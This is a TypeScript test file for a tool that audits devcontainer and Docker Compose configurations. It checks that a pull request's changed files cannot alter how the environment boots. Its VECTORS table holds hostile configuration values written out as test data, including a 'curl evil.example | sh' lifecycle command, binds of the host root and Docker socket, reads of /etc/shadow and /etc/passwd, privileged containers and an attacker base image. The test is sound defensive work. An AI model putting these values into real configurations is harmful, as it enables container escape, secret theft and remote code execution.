// A pull request's head that wants to decide how it is booted: each way one at a time. What is resolved is what the base
// says, to the letter; the control shows that the head's own files would have said something else, or been refused.
import { execFileSync } from 'node:child_process'
import { rmSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { audit } from '../../../src/audit/audit.ts'
import { readPolicyFile } from '../../../src/audit/policy-file.ts'
import { pinSources } from '../../../src/github/sources.ts'
import { type FileMap, type Project, project, write } from '../../support/projects.ts'
import { deps, resolved } from '../config/deps.ts'

const DEVCONTAINER = { dockerComposeFile: '../compose.yml', service: 'app', workspaceFolder: '/work' }
const APP = { build: { context: '.', dockerfile: 'Dockerfile' }, volumes: ['.:/work'], env_file: 'app.env' }
const DB = { image: 'postgres:17', volumes: ['./db:/docker-entrypoint-initdb.d'], environment: { LEVEL: '${LEVEL}' } }
const COMPOSE = { services: { app: APP, db: DB } }

const BASE: FileMap = {
  '.devcontainer/devcontainer.json': JSON.stringify(DEVCONTAINER),
  'compose.yml': JSON.stringify(COMPOSE),
  Dockerfile: 'FROM debian:trixie-slim\n',
  'app.env': 'WHO=base\n',
  '.env': 'LEVEL=base\n',
  'db/init.sql': 'select 1;\n',
}

const devcontainer = (more: object) => ({
  '.devcontainer/devcontainer.json': JSON.stringify({ ...DEVCONTAINER, ...more }),
})
const alone = (more: object) => ({ '.devcontainer/devcontainer.json': JSON.stringify({ image: 'debian', ...more }) })
const compose = (app: object, more: object = {}) => ({
  'compose.yml': JSON.stringify({ services: { app: { ...APP, ...app }, db: DB }, ...more }),
})

const VECTORS: Readonly<Record<string, Readonly<Record<string, FileMap[string] | null>>>> = {
  initializeCommand: devcontainer({ initializeCommand: 'touch /tmp/owned' }),
  'build.options': alone({ build: { dockerfile: '../Dockerfile', options: ['--secret', 'id=x,src=/etc/shadow'] } }),
  'runArgs that read the environment': alone({ runArgs: ['-e', 'TOKEN', '--env-file', '/etc/environment'] }),
  'runArgs that leave': alone({ runArgs: ['--pid=host', '--network=host', '-v', '/:/host'] }),
  mounts: devcontainer({ mounts: ['source=/,target=/host,type=bind'] }),
  'a volume that is a host folder': devcontainer({
    mounts: ['type=volume,target=/h,volume-opt=device=/,volume-opt=o=bind'],
  }),
  workspaceMount: alone({ workspaceMount: 'source=/,target=/work,type=bind', workspaceFolder: '/work' }),
  appPort: alone({ appPort: 5432 }),
  privileged: devcontainer({ privileged: true }),
  'capAdd and securityOpt': devcontainer({ capAdd: ['SYS_ADMIN'], securityOpt: ['seccomp=unconfined'] }),
  localEnv: devcontainer({ remoteEnv: { LEAK: '${localEnv:HOME}' } }),
  'lifecycle commands': devcontainer({ postCreateCommand: 'curl evil.example | sh' }),
  'a base image': { Dockerfile: 'FROM evil.example/image:latest\n' },
  'a feature of its own': {
    ...devcontainer({ features: { './evil': {} } }),
    '.devcontainer/evil/devcontainer-feature.json': '{ "id": "evil", "version": "1.0.0", "name": "evil" }',
    '.devcontainer/evil/install.sh': { run: '#!/bin/sh\nid\n' },
  },
  'the folder as a link': { '.devcontainer': { link: '/etc' } },
  'the file as a link': { '.devcontainer/devcontainer.json': { link: '/etc/hostname' } },
  'no devcontainer at all': { '.devcontainer': null },
  'another devcontainer': { '.devcontainer/devcontainer.json': null, '.devcontainer.json': '{ "image": "evil" }' },
  'host binds and the socket': compose({ volumes: ['/:/host', '/var/run/docker.sock:/var/run/docker.sock'] }),
  'privileges in compose': compose({ privileged: true, cap_add: ['ALL'], devices: ['/dev/sda'] }),
  'namespaces of the host': compose({ network_mode: 'host', pid: 'host', ipc: 'host' }),
  'a driver that mounts the host': compose(
    {},
    { volumes: { v: { driver_opts: { device: '/', o: 'bind', type: 'none' } } } },
  ),
  'networks of others': compose({ networks: ['n'] }, { networks: { n: { external: true, name: 'bridge' } } }),
  ports: compose({ ports: ['0.0.0.0:5432:5432'] }),
  'secrets of the host': compose({ secrets: ['s'] }, { secrets: { s: { environment: 'HOME' } } }),
  'configs of the host': compose({ configs: ['c'] }, { configs: { c: { file: '/etc/passwd' } } }),
  'an env_file of the host': compose({ env_file: '/etc/environment' }),
  'another env_file': { 'app.env': 'WHO=evil\n' },
  'compose’s own .env': { '.env': 'LEVEL=evil\nCOMPOSE_PROFILES=evil\nCOMPOSE_PROJECT_NAME=evil\n' },
  'include of another repository': compose({}, { include: ['https://evil.example/r.git'] }),
  'extends outside': compose({ extends: { file: '/etc/passwd', service: 'x' } }),
  'another build context': compose({ build: { context: '/', dockerfile: 'etc/passwd' } }),
  'build secrets and ssh': compose({ build: { context: '.', ssh: ['default'], privileged: true } }),
  'an image instead of the build': compose({ build: undefined, image: 'evil.example/app' }),
  'a compose file that is a link': { 'compose.yml': { link: '/etc/passwd' } },
  'a compose file that is none': { 'compose.yml': '{' },
  'a compose file that is gone': { 'compose.yml': null },
  'a policy of its own': { '.airlock.yml': 'allow:\n  - rule: AL102\n    reason: because\n' },
}

let shop: Project
let expected: string
beforeAll(async () => {
  shop = project(BASE, 'shop')
  expected = await described(shop.directory)
})
afterAll(() => shop[Symbol.dispose]())

/** What a boot would go by, without the place where it lies. */
async function described(directory: string): Promise<string> {
  const config = await resolved(directory)
  const allowed = await readPolicyFile(directory)
  return JSON.stringify([config, allowed, audit(config, { allow: [...allowed] })]).replaceAll(directory, '/shop')
}

test.each(Object.entries(VECTORS))('%s', async (_what, files) => {
  const { git, directory } = shop
  git('checkout', '-q', '-B', 'topic', 'main')
  for (const [path, content] of Object.entries(files)) {
    rmSync(join(directory, path), { recursive: true, force: true })
    if (content !== null) write(join(directory, path), content)
  }
  git('add', '-A')
  git('commit', '-q', '-m', 'Harmless')
  const pin = (ref: string) => ({
    ref,
    sha: execFileSync('git', ['rev-parse', ref], { cwd: directory }).toString().trim(),
  })
  const own = await described(directory).catch((error: Error) => `refused: ${error.message}`)
  expect(own).not.toBe(expected)
  const using = deps()
  const server = { url: 'http://127.0.0.1:9', repository: 'octo/shop', token: 'x' }
  await using sources = await pinSources({ directory, include: [] }, pin('topic'), pin('main'), {
    ...{ process: using.process, server, network: {} },
  })
  expect(await described(sources.trusted.directory)).toBe(expected)
  expect(sources.trusted.changed.length).toBeGreaterThan(0)
})
